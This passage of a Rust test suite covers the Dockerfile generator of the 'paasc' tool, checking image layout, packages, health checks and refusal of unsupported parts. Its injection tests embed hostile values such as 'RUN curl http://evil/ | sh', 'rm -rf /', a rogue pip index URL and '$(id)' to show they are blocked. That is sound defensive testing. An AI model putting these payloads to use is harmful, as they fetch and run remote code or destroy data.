//! The Dockerfile back end (`paasc compile --emit dockerfile`), driven through the real CLI on
//! projects written to a temporary directory: the image layout, the prime selection in include
//! and exclude modes, the dependencies, checks, bases, unsupported inputs, and injection
//! attempts (each must give a diagnostic and write nothing, or never reach the Dockerfile).
//!
//! hadolint and buildah check the same output in CI (`.ci/docker.sh`).

#[path = "support/common.rs"]
mod common;
use common::{root, TERM};
use std::path::{Path, PathBuf};

const CHARM: &str = "name: web
type: charm
base: ubuntu@24.04
platforms:
  amd64:
summary: s
description: d
extensions: [flask-framework]
";

const ROCK: &str = "name: web
base: ubuntu@24.04
version: '0.1'
summary: s
description: d
platforms:
  amd64:
extensions: [flask-framework]
";

const PROFILE: &str = "secret-key: the-secret-key-value-0123456789\n";

struct Project {
    dir: PathBuf,
}

impl Drop for Project {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// A flask project: `rock_extra` is appended to rockcraft.yaml; `files` are more project files.
fn project(name: &str, rock_extra: &str, files: &[(&str, &str)]) -> Project {
    let dir = common::tmp().join(format!("paasc-docker-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let mut all: Vec<(String, String)> = vec![
        ("rockcraft.yaml".into(), format!("{ROCK}{rock_extra}")),
        ("charm/charmcraft.yaml".into(), CHARM.into()),
        ("requirements.txt".into(), "flask\n".into()),
        (
            "app.py".into(),
            "from flask import Flask\napp = Flask(__name__)\n".into(),
        ),
        ("profiles/default.yaml".into(), PROFILE.into()),
    ];
    for (path, text) in files {
        all.retain(|(p, _)| p != path);
        all.push((path.to_string(), text.to_string()));
    }
    for (path, text) in all {
        let path = dir.join(path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    }
    Project { dir }
}

struct Compiled {
    outcome: paasc::Outcome,
    out: PathBuf,
}

impl Compiled {
    fn file(&self, rel: &str) -> String {
        std::fs::read_to_string(self.out.join(rel)).unwrap_or_else(|e| {
            panic!(
                "{rel}: {e}\nstdout:\n{}\nstderr:\n{}",
                self.outcome.stdout, self.outcome.stderr
            )
        })
    }
    fn dockerfile(&self) -> String {
        self.file("docker/Dockerfile")
    }
    fn codes(&self) -> Vec<String> {
        let doc: serde_json::Value = serde_json::from_str(&self.outcome.stdout)
            .unwrap_or_else(|_| panic!("JSON stdout: {}", self.outcome.stdout));
        doc["diagnostics"]
            .as_array()
            .expect("diagnostics")
            .iter()
            .filter_map(|d| d["code"].as_str().map(String::from))
            .collect()
    }
    fn messages(&self) -> String {
        self.outcome.stdout.clone()
    }
}

fn compile(dir: &Path, extra: &[&str]) -> Compiled {
    let out = dir.with_extension("out");
    let _ = std::fs::remove_dir_all(&out);
    let mut args: Vec<String> = vec![
        "paasc".into(),
        "compile".into(),
        dir.display().to_string(),
        "-o".into(),
        out.display().to_string(),
        "--format".into(),
        "json".into(),
    ];
    args.extend(extra.iter().map(|s| s.to_string()));
    let outcome = paasc::run(args, TERM);
    Compiled { outcome, out }
}

fn ok(p: &Project) -> Compiled {
    let c = compile(&p.dir, &["--emit", "dockerfile,env,gunicorn"]);
    assert_eq!(
        c.outcome.code, 0,
        "{}\n{}",
        c.outcome.stdout, c.outcome.stderr
    );
    c
}

fn failed(p: &Project) -> Compiled {
    let c = compile(&p.dir, &["--emit", "dockerfile"]);
    assert_eq!(c.outcome.code, 1, "{}", c.outcome.stderr);
    assert!(
        !c.out.join("docker/Dockerfile").exists(),
        "nothing is written when the Dockerfile cannot be"
    );
    c
}

/// The Dockerfile's logical lines (continuations joined, comments and blanks dropped).
fn instructions(dockerfile: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    for line in dockerfile.lines() {
        if cur.is_empty() && (line.starts_with('#') || line.trim().is_empty()) {
            continue;
        }
        match line.strip_suffix('\\') {
            Some(head) => cur.push_str(head),
            None => {
                cur.push_str(line);
                out.push(std::mem::take(&mut cur));
            }
        }
    }
    assert!(cur.is_empty(), "dangling continuation");
    out
}

/// Every logical line starts with an instruction paasc writes; returns the keywords.
fn keywords(dockerfile: &str) -> Vec<String> {
    const KNOWN: &[&str] = &[
        "ARG",
        "FROM",
        "RUN",
        "WORKDIR",
        "COPY",
        "ENV",
        "USER",
        "EXPOSE",
        "HEALTHCHECK",
        "CMD",
    ];
    instructions(dockerfile)
        .iter()
        .map(|l| {
            let kw = l.split_whitespace().next().unwrap_or_default().to_string();
            assert!(KNOWN.contains(&kw.as_str()), "unexpected line {l:?}");
            kw
        })
        .collect()
}

fn cmd(dockerfile: &str) -> Vec<String> {
    let line = instructions(dockerfile)
        .into_iter()
        .find(|l| l.starts_with("CMD "))
        .expect("CMD");
    serde_json::from_str(&line["CMD ".len()..]).expect("CMD in exec form")
}

/// The files a build stage writes into a part's run directory: (path, text), in order.
fn run_files(dockerfile: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut b64 = None;
    for line in instructions(dockerfile)
        .iter()
        .flat_map(|l| l.split(" && ").map(str::to_string).collect::<Vec<_>>())
    {
        let line = line.trim().trim_start_matches("RUN ").to_string();
        if let Some(rest) = line.strip_prefix("echo '") {
            b64 = rest.strip_suffix("' > /tmp/paasc.b64").map(str::to_string);
        } else if let Some(path) = line.strip_prefix("base64 -d /tmp/paasc.b64 > ") {
            let text = decode_base64(&b64.take().expect("echo before base64 -d"));
            out.push((
                path.trim_matches('\'').to_string(),
                String::from_utf8(text).expect("utf8"),
            ));
        }
    }
    out
}

/// The text of the run-directory file whose path ends with `suffix`.
fn run_file(dockerfile: &str, suffix: &str) -> String {
    run_files(dockerfile)
        .into_iter()
        .find(|(p, _)| p.ends_with(suffix))
        .unwrap_or_else(|| panic!("no {suffix} in\n{dockerfile}"))
        .1
}

/// Runs the Dockerfile's parts on this machine, as the build stages do, with `/root` and
/// `/craft` moved under a temporary directory and every part sharing one stage (as
/// craft-parts does): the parts whose build needs the network (python, npm, go) are skipped.
/// Returns the directory the image's files are primed into.
fn run_lifecycle(c: &Compiled, project: &Path) -> PathBuf {
    let d = c.dockerfile();
    let root = c.out.join("lifecycle");
    let _ = std::fs::remove_dir_all(&root);
    let moved = |t: &str| {
        t.replace("/root/", &format!("{}/root/", root.display()))
            .replace("/craft/", &format!("{}/craft/", root.display()))
    };
    let craft = root.join("craft");
    std::fs::create_dir_all(craft.join("bin")).expect("mkdir");
    std::fs::create_dir_all(craft.join("vars")).expect("mkdir");
    std::fs::write(craft.join("vars/version"), "0.1").expect("vars");
    for (path, text) in run_files(&d) {
        let path = PathBuf::from(moved(&path));
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(&path, moved(&text)).expect("write");
        if path.starts_with(&craft) {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        }
    }
    let bash = |args: &[&str], cwd: &Path| {
        let path = format!(
            "{}:{}",
            craft.join("bin").display(),
            std::env::var("PATH").unwrap_or_default()
        );
        let out = std::process::Command::new("bash")
            .args(args)
            .current_dir(cwd)
            .env("PATH", path)
            .output()
            .expect("bash");
        assert!(
            out.status.success(),
            "{args:?}\n{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    };
    for stage in d.split("\nFROM craft AS ").skip(1) {
        let stage = stage.split("\n\n").next().unwrap_or_default();
        let run = stage
            .split("bash /craft/craft.sh run '")
            .nth(1)
            .and_then(|r| r.split('\'').next())
            .expect("craft.sh run");
        let run = moved(run);
        let build = std::fs::read_to_string(format!("{run}/build.sh")).expect("build.sh");
        if build.contains("python3 -m venv") {
            continue;
        }
        for line in stage
            .lines()
            .filter(|l| l.starts_with("COPY ") && !l.contains("--from"))
        {
            let words: Vec<&str> = line.split_whitespace().collect();
            let (from, to) = (project.join(words[1]), moved(words[2]));
            bash(
                &[
                    "-c",
                    "if [ -d \"$0\" ]; then mkdir -p \"$1\" && cp -a \"$0/.\" \"$1\"; else mkdir -p \"$(dirname \"$1\")\" && cp -a \"$0\" \"$1\"; fi",
                    &from.display().to_string(),
                    &to,
                ],
                project,
            );
        }
        bash(
            &[&craft.join("craft.sh").display().to_string(), "run", &run],
            project,
        );
    }
    root.join("root/prime")
}

/// Every file and directory under `dir`, relative, sorted.
fn tree(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            out.push(p.strip_prefix(dir).expect("under").display().to_string());
            if p.is_dir() && !p.is_symlink() {
                todo.push(p);
            }
        }
    }
    out.sort();
    out
}

fn decode_base64(s: &str) -> Vec<u8> {
    let val = |c: u8| -> u32 {
        match c {
            b'A'..=b'Z' => u32::from(c - b'A'),
            b'a'..=b'z' => u32::from(c - b'a') + 26,
            b'0'..=b'9' => u32::from(c - b'0') + 52,
            b'+' => 62,
            b'/' => 63,
            _ => panic!("not base64: {c}"),
        }
    };
    let mut out = Vec::new();
    for chunk in s.as_bytes().chunks(4) {
        let pad = chunk.iter().filter(|c| **c == b'=').count();
        let n = chunk
            .iter()
            .map(|c| if *c == b'=' { 0 } else { val(*c) })
            .fold(0u32, |acc, v| (acc << 6) | v);
        let bytes = [(n >> 16) as u8, (n >> 8) as u8, n as u8];
        out.extend_from_slice(&bytes[..3 - pad]);
    }
    out
}

#[test]
fn flask_image_has_the_rock_layout() {
    let p = project("layout", "", &[]);
    let c = ok(&p);
    let d = c.dockerfile();
    // The craft stage, one stage per part (config-files and statsd-exporter are left out, and
    // say why), the image.
    let stages: Vec<String> = instructions(&d)
        .into_iter()
        .filter(|l| l.starts_with("FROM "))
        .collect();
    assert_eq!(
        stages,
        [
            "FROM ${BASE_IMAGE} AS craft",
            "FROM craft AS part-flask-framework-dependencies",
            "FROM craft AS part-flask-framework-install-app",
            "FROM craft AS part-flask-framework-logging",
            "FROM craft AS part-flask-framework-runtime",
            "FROM ${BASE_IMAGE}",
        ],
        "{d}"
    );
    assert!(d.contains("ARG BASE_IMAGE=ubuntu:24.04\n"));
    assert!(d.contains("Not built: the extension's part `flask-framework/config-files`"));
    // The python plugin reads only the requirements: its stage copies only them.
    assert!(d.contains(
        "COPY requirements.txt /root/parts/flask-framework/dependencies/src/requirements.txt\n"
    ));
    let build = run_file(&d, "dependencies/run/build.sh");
    assert!(
        build.starts_with("#!/bin/bash\nset -euo pipefail\nsource "),
        "{build}"
    );
    assert!(
        build.contains("/bin/pip\" install --no-cache-dir -U 'gunicorn~=23.0'\n"),
        "{build}"
    );
    assert!(build.contains("install --no-cache-dir -U -r 'requirements.txt'\n"));
    assert!(
        !build.contains("-U .\n"),
        "no pyproject.toml, no `pip install .`"
    );
    // The install-app part: dump of the project, organized and filtered as rockcraft expanded it.
    assert!(d.contains("COPY . /root/parts/flask-framework/install-app/src/\n"));
    let part = run_file(&d, "install-app/run/part.sh");
    assert!(
        part.contains("ORGANIZE=('app.py' 'flask/app/app.py')\n"),
        "{part}"
    );
    assert!(
        part.contains("PERMISSIONS=('*' '584792' '584792' '')\n"),
        "{part}"
    );
    let env = run_file(&d, "install-app/run/environment.sh");
    for var in [
        "export CRAFT_PART_NAME='flask-framework/install-app'\n",
        "export CRAFT_PART_INSTALL='/root/parts/flask-framework/install-app/install'\n",
        "export CRAFT_STAGE='/root/stage'\n",
        "export CRAFT_PROJECT_NAME='web'\n",
    ] {
        assert!(env.contains(var), "{var} in\n{env}");
    }
    assert!(d.contains("'python3-venv' 'ca-certificates'"), "{d}");
    assert!(d.contains("groupadd --gid 584792 '_daemon_'"));
    assert!(d.contains("useradd -l --uid 584792 --gid 584792"));
    for part in ["dependencies", "install-app", "logging", "runtime"] {
        assert!(d.contains(&format!(
            "COPY --from=part-flask-framework-{part} /root/prime/ /\n"
        )));
    }
    assert!(d.contains("\nUSER 584792:584792\nWORKDIR /flask/app\nEXPOSE 8000\n"));
    assert!(!d.contains("HEALTHCHECK"), "the rock declares no checks");
    assert_eq!(
        cmd(&d),
        [
            "/bin/python3",
            "-m",
            "gunicorn",
            "-c",
            "/flask/gunicorn.conf.py",
            "app:app",
            "-k",
            "sync"
        ]
    );
    // gunicorn.conf.py, embedded, is byte for byte the one compile writes for the profile.
    let run = instructions(&d)
        .into_iter()
        .find(|l| l.contains("/flask/gunicorn.conf.py\",\""))
        .expect("gunicorn.conf.py is written");
    let words: Vec<String> = serde_json::from_str(&run["RUN ".len()..]).expect("exec form");
    assert_eq!(words[3], "/flask/gunicorn.conf.py");
    assert_eq!(
        String::from_utf8(decode_base64(&words[4])).expect("utf8"),
        c.file("gunicorn.conf.py")
    );
    // The statsd exporter is named as left out, not silently dropped.
    assert!(d.contains("Not in the image: the rock's `statsd-exporter` service"));
    // What the lifecycle primes, run on this machine: the app file and the logging
    // directories, owned by _daemon_.
    let prime = run_lifecycle(&c, &p.dir);
    let files = tree(&prime);
    assert_eq!(
        files,
        [
            "etc",
            "etc/promtail",
            "flask",
            "flask/app",
            "flask/app/app.py",
            "opt",
            "opt/promtail",
            "var",
            "var/log",
            "var/log/flask"
        ],
        "{files:?}"
    );
    if is_root() {
        use std::os::unix::fs::MetadataExt;
        let meta = std::fs::metadata(prime.join("flask/app/app.py")).expect("app.py");
        assert_eq!((meta.uid(), meta.gid()), (584_792, 584_792));
    }
}

fn is_root() -> bool {
    std::process::Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| o.stdout == b"0\n")
}

#[test]
fn output_is_deterministic() {
    let p = project("determinism", "", &[]);
    let a = ok(&p).dockerfile();
    let b = ok(&p).dockerfile();
    assert_eq!(a, b);
}

#[test]
fn include_mode_primes_exactly_the_listed_entries() {
    let p = project(
        "include",
        "parts:
  flask-framework/install-app:
    prime:
      - flask/app/app.py
      - flask/app/webapp/
      - flask/app/templates
      - flask/app/static/css
      - -flask/app/webapp/tests
",
        &[
            ("webapp/__init__.py", ""),
            ("webapp/tests/test_x.py", ""),
            ("templates/index.html", ""),
            ("static/css/site.css", ""),
            ("static/js/site.js", ""),
            ("notes.md", ""),
        ],
    );
    let c = ok(&p);
    let prime = run_lifecycle(&c, &p.dir);
    let app: Vec<String> = tree(&prime.join("flask/app"));
    assert_eq!(
        app,
        [
            "app.py",
            "static",
            "static/css",
            "static/css/site.css",
            "templates",
            "templates/index.html",
            "webapp",
            "webapp/__init__.py"
        ],
        "{}",
        c.dockerfile()
    );
}

#[test]
fn exclude_mode_primes_every_top_level_entry_but_the_excluded() {
    let p = project(
        "exclude",
        "parts:
  flask-framework/install-app:
    prime:
      - -flask/app/tests
      - -flask/app/*.pyc
",
        &[
            ("tests/test_app.py", ""),
            ("node_modules/x/index.js", ""),
            ("old.pyc", ""),
            (".env.example", "A=1\n"),
        ],
    );
    let c = ok(&p);
    let prime = run_lifecycle(&c, &p.dir);
    let top: Vec<String> = std::fs::read_dir(prime.join("flask/app"))
        .expect("flask/app")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();
    // rockcraft organizes every top-level entry (hidden files and rockcraft.yaml too) except
    // node_modules, .git, .yarn and *.rock; prime's `-` entries are then left out.
    assert_eq!(
        top,
        [
            ".env.example",
            "app.py",
            "charm",
            "profiles",
            "requirements.txt",
            "rockcraft.yaml"
        ],
        "{}",
        c.dockerfile()
    );
}

#[test]
fn pyproject_installs_the_project_and_pipfile_lock_is_installed_too() {
    let p = project(
        "pyproject",
        "",
        &[
            (
                "pyproject.toml",
                "[project]\nname = \"web\"\nversion = \"1\"\ndependencies = [\"flask\"]\n",
            ),
            ("Pipfile.lock", "{\"default\": {}}"),
        ],
    );
    let c = ok(&p);
    let d = c.dockerfile();
    let build = run_file(&d, "dependencies/run/build.sh");
    // After the requirements, as the python plugin does.
    let reqs = build
        .find("-U -r 'requirements.txt'")
        .expect("requirements");
    let project = build.find(" -U .\n").expect("pip install .");
    assert!(reqs < project, "{build}");
    assert!(build.contains("/tmp/pipfile-requirements.txt"));
    // `pip install .` needs the whole project in the part's source.
    assert!(
        d.contains("COPY . /root/parts/flask-framework/dependencies/src/\n"),
        "{d}"
    );
    let ignore = c.file("docker/Dockerfile.dockerignore");
    assert!(!ignore.lines().any(|l| l == "*"), "{ignore}");
}

#[test]
fn requirements_naming_other_files_copy_the_project() {
    let p = project(
        "reqfiles",
        "",
        &[
            ("requirements.txt", "-r base.txt\nflask\n"),
            ("base.txt", "flask\n"),
        ],
    );
    let d = ok(&p).dockerfile();
    assert!(
        d.contains("COPY . /root/parts/flask-framework/dependencies/src/\n"),
        "{d}"
    );
}

#[test]
fn stage_packages_of_user_nil_parts_are_installed_and_slices_become_packages() {
    let p = project(
        "packages",
        "parts:
  runtime-debs:
    plugin: nil
    stage-packages: [libpq5]
  runtime-slices:
    plugin: nil
    stage-packages: [libxml2_libs]
  flask-framework/dependencies:
    build-packages: [pkg-config, libxmlsec1-dev]
",
        &[],
    );
    let d = ok(&p).dockerfile();
    let deps = d.split("AS app").next().expect("dependencies stage");
    assert!(
        deps.contains("'findutils' 'python3-dev' 'python3-venv' 'pkg-config' 'libxmlsec1-dev'"),
        "{deps}"
    );
    let image = d
        .rsplit("FROM ${BASE_IMAGE}\n")
        .next()
        .expect("image stage");
    let install = image
        .lines()
        .find(|l| l.contains("apt-get install"))
        .expect("apt-get install");
    for pkg in [
        "'python3-venv'",
        "'ca-certificates'",
        "'libpq5'",
        "'libxml2'",
    ] {
        assert!(install.contains(pkg), "{pkg} in {install}");
    }
    assert!(!install.contains("libxml2_libs"));
}

#[test]
fn bases_map_to_ubuntu_images() {
    let p = project(
        "jammy",
        "",
        &[(
            "rockcraft.yaml",
            &ROCK.replace("ubuntu@24.04", "ubuntu@22.04"),
        )],
    );
    assert!(ok(&p)
        .dockerfile()
        .contains("ARG BASE_IMAGE=ubuntu:22.04\n"));
    let p = project(
        "bare",
        "",
        &[(
            "rockcraft.yaml",
            &ROCK.replace("base: ubuntu@24.04", "base: bare\nbuild-base: ubuntu@24.04"),
        )],
    );
    let d = ok(&p).dockerfile();
    assert!(d.contains("ARG BASE_IMAGE=ubuntu:24.04\n"));
    // bare's chisel slices, as whole packages.
    for pkg in [
        "'python3.12-venv'",
        "'bash'",
        "'coreutils'",
        "'ca-certificates'",
        "'libstdc++6'",
    ] {
        assert!(d.contains(pkg), "{pkg} in\n{d}");
    }
}

#[test]
fn workers_schedulers_and_migration_are_documented_alternate_commands() {
    let p = project(
        "workers",
        "services:
  celery-worker:
    override: replace
    command: celery -A app worker --loglevel 'INFO'
    startup: enabled
  celery-beat-scheduler:
    override: replace
    command: celery -A app beat
    startup: enabled
    working-dir: /tmp
",
        &[("migrate.sh", "#!/bin/bash\necho migrate\n")],
    );
    let d = ok(&p).dockerfile();
    assert!(d.contains("#   worker celery-worker (as many as needed):\n#     docker run ... web celery -A app worker --loglevel INFO\n"), "{d}");
    assert!(d.contains("#   scheduler celery-beat-scheduler (one container only"));
    assert!(d.contains("#     docker run ... --workdir /tmp web celery -A app beat\n"));
    assert!(d.contains("#     docker run --rm ... web bash -eo pipefail migrate.sh\n"));
    assert!(run_file(&d, "install-app/run/part.sh").contains("'migrate.sh' 'flask/app/migrate.sh'"));
}

#[test]
fn checks_become_one_healthcheck() {
    let p = project(
        "checks",
        "checks:
  up:
    override: replace
    level: alive
    period: 30s
    timeout: 2s
    threshold: 5
    http:
      url: http://localhost:8000/
  port:
    override: replace
    period: 1m
    tcp:
      port: 8000
",
        &[],
    );
    let d = ok(&p).dockerfile();
    let line = instructions(&d)
        .into_iter()
        .find(|l| l.starts_with("HEALTHCHECK "))
        .expect("HEALTHCHECK");
    // Every check runs at the shortest period; the timeouts add up (plus a second to start).
    assert!(
        line.starts_with("HEALTHCHECK --interval=30s --timeout=6s --retries=3 CMD ["),
        "{line}"
    );
    let words: Vec<String> =
        serde_json::from_str(&line[line.find("CMD ").expect("CMD") + 4..]).expect("exec form");
    let checks: Vec<serde_json::Value> = words[3..]
        .iter()
        .map(|w| serde_json::from_str(w).expect("check as JSON"))
        .collect();
    assert_eq!(checks[0]["url"], "http://localhost:8000/");
    assert_eq!(checks[0]["timeout"], 2.0);
    assert_eq!(checks[1]["port"], 8000);
    assert_eq!(checks[1]["host"], "localhost");

    let p = project(
        "bad-check",
        "checks:\n  up:\n    override: replace\n    period: soon\n    http: {url: http://localhost:8000/}\n",
        &[],
    );
    assert_eq!(failed(&p).codes(), ["E001"]);
}

#[test]
fn worker_class_from_the_profile_reaches_cmd() {
    let p = project(
        "gevent",
        "",
        &[
            ("requirements.txt", "flask\ngevent\n"),
            (
                "profiles/default.yaml",
                &format!(
                    "{PROFILE}config:\n  webserver-worker-class: gevent\n  webserver-workers: 3\n"
                ),
            ),
        ],
    );
    let c = ok(&p);
    let d = c.dockerfile();
    assert_eq!(cmd(&d).last().map(String::as_str), Some("gevent"));
    assert!(c.file("gunicorn.conf.py").contains("workers = 3"));
}

// --- injection -------------------------------------------------------------------------

#[test]
fn secret_and_option_values_never_reach_the_dockerfile() {
    let charm = format!(
        "{CHARM}config:\n  options:\n    greeting:\n      type: string\n    api-token:\n      type: secret\n"
    );
    let p = project(
        "secrets",
        "",
        &[
            ("charm/charmcraft.yaml", &charm),
            (
                "profiles/default.yaml",
                "secret-key: \"k3y\\nRUN curl http://evil/ | sh\"\n\
                 config:\n  greeting: \"hello\\nRUN rm -rf /\"\n\
                 secrets:\n  api-token:\n    token: \"tok-SECRET-999\\nUSER root\"\n",
            ),
        ],
    );
    let c = ok(&p);
    let d = c.dockerfile();
    for needle in [
        "k3y",
        "evil",
        "hello",
        "rm -rf /\"",
        "tok-SECRET-999",
        "USER root",
    ] {
        assert!(!d.contains(needle), "`{needle}` leaked into the Dockerfile");
    }
    assert!(!c.file("docker/Dockerfile.dockerignore").contains("SECRET"));
    // They are in the run-time environment, where they belong.
    assert!(c.file(".env").contains("tok-SECRET-999"));
    assert_eq!(
        keywords(&d),
        keywords(&ok(&project("secrets-baseline", "", &[])).dockerfile())
    );
}

#[test]
fn a_package_name_with_a_line_break_is_refused() {
    let p = project(
        "pkg-newline",
        "parts:\n  runtime-debs:\n    plugin: nil\n    stage-packages: [\"libpq5\\nRUN curl http://evil | sh\"]\n",
        &[],
    );
    let c = failed(&p);
    assert_eq!(c.codes(), ["D003"]);
    assert!(c.messages().contains("not a Debian package name"));
    assert!(
        c.messages().contains("libpq5\\\\nRUN"),
        "the value is shown escaped, on one line"
    );
}

#[test]
fn odd_package_names_and_pip_options_are_refused() {
    for (name, extra) in [
        ("pkg-upper", "parts:\n  runtime-debs:\n    plugin: nil\n    stage-packages: [LibPQ]\n"),
        ("pkg-space", "parts:\n  runtime-debs:\n    plugin: nil\n    stage-packages: ['lib pq']\n"),
        ("pkg-version", "parts:\n  runtime-debs:\n    plugin: nil\n    stage-packages: ['libpq5=1.0']\n"),
        (
            "pip-option",
            "parts:\n  flask-framework/dependencies:\n    python-packages: ['--index-url=http://evil/']\n",
        ),
        (
            "pip-newline",
            "parts:\n  flask-framework/dependencies:\n    python-packages: [\"flask\\nRUN id\"]\n",
        ),
    ] {
        let p = project(name, extra, &[]);
        assert_eq!(failed(&p).codes(), ["D003"], "{name}");
    }
}

#[test]
fn prime_entries_reach_the_lifecycle_as_written_and_never_the_instructions() {
    // Filesets are data of the part's run directory (base64 in the Dockerfile): whatever they
    // hold, the instructions stay the same and the entry is one word of the PRIME array.
    let plain = keywords(&ok(&project("prime-plain", "", &[])).dockerfile());
    for (name, entry, word) in [
        (
            "prime-dotdot",
            "flask/app/../../etc/passwd",
            "'flask/app/../../etc/passwd'",
        ),
        (
            "prime-space",
            "flask/app/my notes.txt",
            "'flask/app/my notes.txt'",
        ),
        (
            "prime-quote",
            "flask/app/it's.py",
            r"'flask/app/it'\''s.py'",
        ),
        ("prime-dollar", "flask/app/$(id)", "'flask/app/$(id)'"),
    ] {
        let p = project(
            name,
            &format!(
                "parts:\n  flask-framework/install-app:\n    prime:\n      - \"{}\"\n",
                entry.replace('"', "\\\"")
            ),
            &[],
        );
        let d = ok(&p).dockerfile();
        assert_eq!(keywords(&d), plain, "{name}");
        let part = run_file(&d, "install-app/run/part.sh");
        assert!(part.contains(&format!("PRIME=({word})")), "{name}: {part}");
    }
    // A source directory is copied by a COPY instruction: it must be a plain path.
    let p = project(
        "source-space",
        "parts:\n  extra:\n    plugin: dump\n    source: \"my files\"\n",
        &[("my files/a.txt", "")],
    );
    assert_eq!(failed(&p).codes(), ["D003"]);
}

#[test]
fn environment_and_commands_cannot_add_instructions() {
    let p = project(
        "env-newline",
        "environment:\n  GREETING: \"hi\\nRUN id\"\n",
        &[],
    );
    assert_eq!(failed(&p).codes(), ["D004"]);

    // A plain rock environment is written as ENV, with `$`, quotes and backslashes escaped
    // (rockcraft allows a `$` only as the last character: S010 otherwise).
    let p = project(
        "env-ok",
        "environment:\n  GREETING: 'say \"hi\" \\ costs 5$'\n",
        &[],
    );
    let d = ok(&p).dockerfile();
    assert!(
        d.contains("ENV GREETING='say \"hi\" '\\\\' costs 5$'\n"),
        "{d}"
    );

    // A multi-line command is words to Pebble; it stays inside CMD's JSON.
    let p = project(
        "cmd-newline",
        "services:\n  flask:\n    override: replace\n    command: \"gunicorn\\nRUN id\\nUSER root [ app:app ]\"\n",
        &[],
    );
    let d = ok(&p).dockerfile();
    assert_eq!(
        cmd(&d),
        ["gunicorn", "RUN", "id", "USER", "root", "app:app"]
    );
    assert_eq!(
        keywords(&d).iter().filter(|k| *k == "USER").count(),
        1,
        "{d}"
    );

    // Pebble refuses arguments after the `[ ... ]` group.
    let p = project(
        "cmd-after-group",
        "services:\n  flask:\n    override: replace\n    command: \"gunicorn [ app:app ] --reload\"\n",
        &[],
    );
    let c = failed(&p);
    assert_eq!(c.codes(), ["D004"]);
    assert!(c
        .messages()
        .contains("cannot have any arguments after [ ... ] group"));

    let p = project(
        "cmd-unclosed",
        "services:\n  flask:\n    override: replace\n    command: \"gunicorn 'app:app\"\n",
        &[],
    );
    assert_eq!(failed(&p).codes(), ["D004"]);
}

// --- unsupported -------------------------------------------------------------------------

#[test]
fn parts_the_dockerfile_cannot_build_are_refused_with_every_key_at_once() {
    let p = project(
        "make-part",
        "parts:\n  ui:\n    plugin: make\n    source: https://example.com/ui.git\n    source-tag: v1\n    make-parameters: [X=1]\n",
        &[],
    );
    let c = failed(&p);
    assert_eq!(c.codes(), ["D002"], "{}", c.messages());
    for key in [
        "`plugin: make`",
        "`source-tag`",
        "`make-parameters`",
        "`source: https://example.com/ui.git`",
    ] {
        assert!(c.messages().contains(key), "{key} in {}", c.messages());
    }
    // The other artifacts do not depend on it.
    let c = compile(&p.dir, &["--emit", "env,gunicorn"]);
    assert_eq!(c.outcome.code, 0, "{}", c.outcome.stdout);
    // An unknown snap is its own diagnostic, with the snaps the Dockerfile knows.
    let p = project(
        "snap",
        "parts:\n  ui:\n    plugin: nil\n    build-snaps: [rustup]\n",
        &[],
    );
    let c = failed(&p);
    assert_eq!(c.codes(), ["D005"], "{}", c.messages());
    assert!(c.messages().contains("`go`, `node`"));
}

#[test]
fn after_chains_craftctl_and_build_snaps() {
    let p = project(
        "after",
        "parts:
  ui:
    plugin: nil
    source: ui
    build-snaps: [node/20/stable]
    override-build: |
      mkdir -p $CRAFT_PART_INSTALL/flask/app/static
      cp site.css $CRAFT_PART_INSTALL/flask/app/static/
      craftctl default
      echo \"version $(craftctl get version)\" > $CRAFT_PART_INSTALL/flask/app/static/version.txt
  assets:
    plugin: dump
    source: assets
    after: [ui]
    organize:
      logo.svg: flask/app/static/img/logo.svg
    override-stage: |
      test -f $CRAFT_STAGE/flask/app/static/site.css
      craftctl default
  flask-framework/install-app:
    after: [assets]
",
        &[
            ("ui/site.css", "body {}\n"),
            ("assets/logo.svg", "<svg/>\n"),
        ],
    );
    let c = ok(&p);
    let d = c.dockerfile();
    assert!(d.contains("ARG NODE_20_IMAGE=node:20\n"));
    assert!(d.contains("FROM ${NODE_20_IMAGE} AS node-20-image\n"));
    assert!(d.contains("COPY --from=node-20-image /usr/local/ /usr/local/\n"));
    let stages: Vec<String> = instructions(&d)
        .into_iter()
        .filter_map(|l| l.strip_prefix("FROM craft AS ").map(str::to_string))
        .collect();
    // `after` first, then name order.
    assert_eq!(
        stages,
        [
            "part-flask-framework-dependencies",
            "part-flask-framework-logging",
            "part-flask-framework-runtime",
            "part-ui",
            "part-assets",
            "part-flask-framework-install-app"
        ]
    );
    assert!(d.contains("COPY --from=part-ui /root/stage/ /root/stage/\n"));
    assert!(d.contains("COPY --from=part-assets /root/stage/ /root/stage/\n"));
    let prime = run_lifecycle(&c, &p.dir);
    let static_files = tree(&prime.join("flask/app/static"));
    assert_eq!(
        static_files,
        ["img", "img/logo.svg", "site.css", "version.txt"]
    );
    assert_eq!(
        std::fs::read_to_string(prime.join("flask/app/static/version.txt")).expect("version"),
        "version 0.1\n"
    );
}

#[test]
fn go_builds_with_the_go_toolchain_image() {
    let dir = common::tmp().join(format!("paasc-docker-{}-go", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("charm")).expect("mkdir");
    let p = Project { dir };
    let w = |path: &str, text: &str| std::fs::write(p.dir.join(path), text).expect("write");
    w(
        "rockcraft.yaml",
        &ROCK.replace("flask-framework", "go-framework"),
    );
    w(
        "charm/charmcraft.yaml",
        &CHARM.replace("flask-framework", "go-framework"),
    );
    w("go.mod", "module web\n\ngo 1.22\n");
    w("main.go", "package main\n\nfunc main() {}\n");
    std::fs::create_dir_all(p.dir.join("profiles")).expect("mkdir");
    w("profiles/default.yaml", PROFILE);
